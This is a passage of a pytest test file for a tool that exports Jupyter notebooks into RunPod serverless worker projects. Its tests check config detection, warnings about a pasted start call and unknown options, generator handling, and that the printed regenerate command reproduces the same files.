                "RUNPOD_CONFIG = {'refresh_worker': True, 'return_aggregate_stream': False, 'concurrency_modifier': adjust_concurrency}",
            ),
        ]
    )
    result = export_notebook(nb, tmp_path / "out")
    assert not any("looks like a concurrency modifier" in str(w) for w in result.warnings)  # RUNPOD_CONFIG uses it
    assert started_config(result.out_dir) == {
        "handler": "handler",
        "concurrency_modifier": "adjust_concurrency",
        "refresh_worker": True,
        "return_aggregate_stream": False,
    }


def test_a_handler_alias_of_a_generator_gets_its_stream_aggregated(make_notebook, tmp_path):
    nb = make_notebook([("handler", "async def async_generator_handler(job):\n    yield 1\n\nhandler = async_generator_handler")])
    result = export_notebook(nb, tmp_path / "out")
    assert result.handler_kind == "async_generator"
    assert started_config(result.out_dir)["return_aggregate_stream"] is True


def test_a_pasted_start_call_becomes_runpod_config_with_a_warning(make_notebook, tmp_path):
    nb = make_notebook(
        [
            ("setup", "import runpod"),
            (
                "handler",
                "def handler(job):\n    return job['input']\n\ndef concurrency_modifier(current):\n    return 2\n\n"
                "if __name__ == '__main__':\n    runpod.serverless.start({'handler': handler, 'refresh_worker': True})",
            ),
            ("test", "handler({'input': {'a': 1}})"),
        ]
    )
    result = export_notebook(nb, tmp_path / "out")
    warning = next(str(w) for w in result.warnings if "runpod.serverless.start" in str(w))
    assert warning.split("worker.ipynb: ", 1)[1].startswith(
        "cell 2, line 8: runpod.serverless.start(...) is not run in the exported worker: its options became RUNPOD_CONFIG"
    )
    handler = (result.out_dir / "handler.py").read_text()
    assert "    RUNPOD_CONFIG = ({'handler': handler, 'refresh_worker': True})  # kit: was runpod.serverless.start(...)" in handler
    assert started_config(result.out_dir) == {"handler": "handler", "concurrency_modifier": "concurrency_modifier", "refresh_worker": True}


def test_the_worker_with_a_pasted_start_call_runs_its_job_once(make_notebook, tmp_path):
    nb = make_notebook(
        [
            ("setup", "from runpod import serverless"),
            ("handler", "def handler(job):\n    return {'twice': job['input']['x'] * 2}\n\nserverless.start({'handler': handler})"),
            ("test", "assert handler({'input': {'x': 21}}) == {'twice': 42}"),
        ]
    )
    out = export_notebook(nb, tmp_path / "out").out_dir
    result = run_worker(out)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.count("Job result: {'output': {'twice': 42}}") == 1


def test_a_concurrency_modifier_under_the_docs_name_is_a_warning(make_notebook, tmp_path):
    nb = make_notebook([("handler", "def handler(job):\n    return 1\n\ndef adjust_concurrency(current):\n    return 4")])
    messages = [str(w) for w in export_notebook(nb, tmp_path / "out").warnings]
    assert (
        "cell 1, line 4: `adjust_concurrency` looks like a concurrency modifier, but the worker calls one only when it is named `concurrency_modifier`"
        in " ".join(messages)
    )


def test_an_unknown_start_option_is_a_warning(make_notebook, tmp_path):
    nb = make_notebook([("handler", "def handler(job):\n    return 1\nRUNPOD_CONFIG = {'gpu_count': 2}")])
    messages = [str(w) for w in export_notebook(nb, tmp_path / "out").warnings]
    assert (
        "cell 1, line 3: RUNPOD_CONFIG key `gpu_count` is not an option of runpod.serverless.start (runpod 1.12.0): the worker ignores it"
        in " ".join(messages)
    )


@pytest.mark.process
def test_the_regenerate_line_is_the_command_that_ran(make_notebook, tmp_path):
    """The image build exports with --exclude torch: rerunning the printed line must give the same files."""
    nb = make_notebook(HELLO_CELLS)
    out = tmp_path / "out dir"
    result = run_kit("export", nb, "-o", out, "--extra", "hf_transfer>=0.1", "--exclude", "torch")
    assert result.returncode == 0, result.stderr
    command = shlex.join(["kit", "export", str(nb), "-o", str(out), "--extra", "hf_transfer>=0.1", "--exclude", "torch"])
    assert f"#     {command}\n" in (out / "handler.py").read_text()
    assert f"# Regenerate with: {command}\n" in (out / "requirements.txt").read_text()
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    again = subprocess.run([sys.executable, "-m", "kit", *shlex.split(command)[1:]], capture_output=True, text=True, timeout=120)
    assert again.returncode == 0, again.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
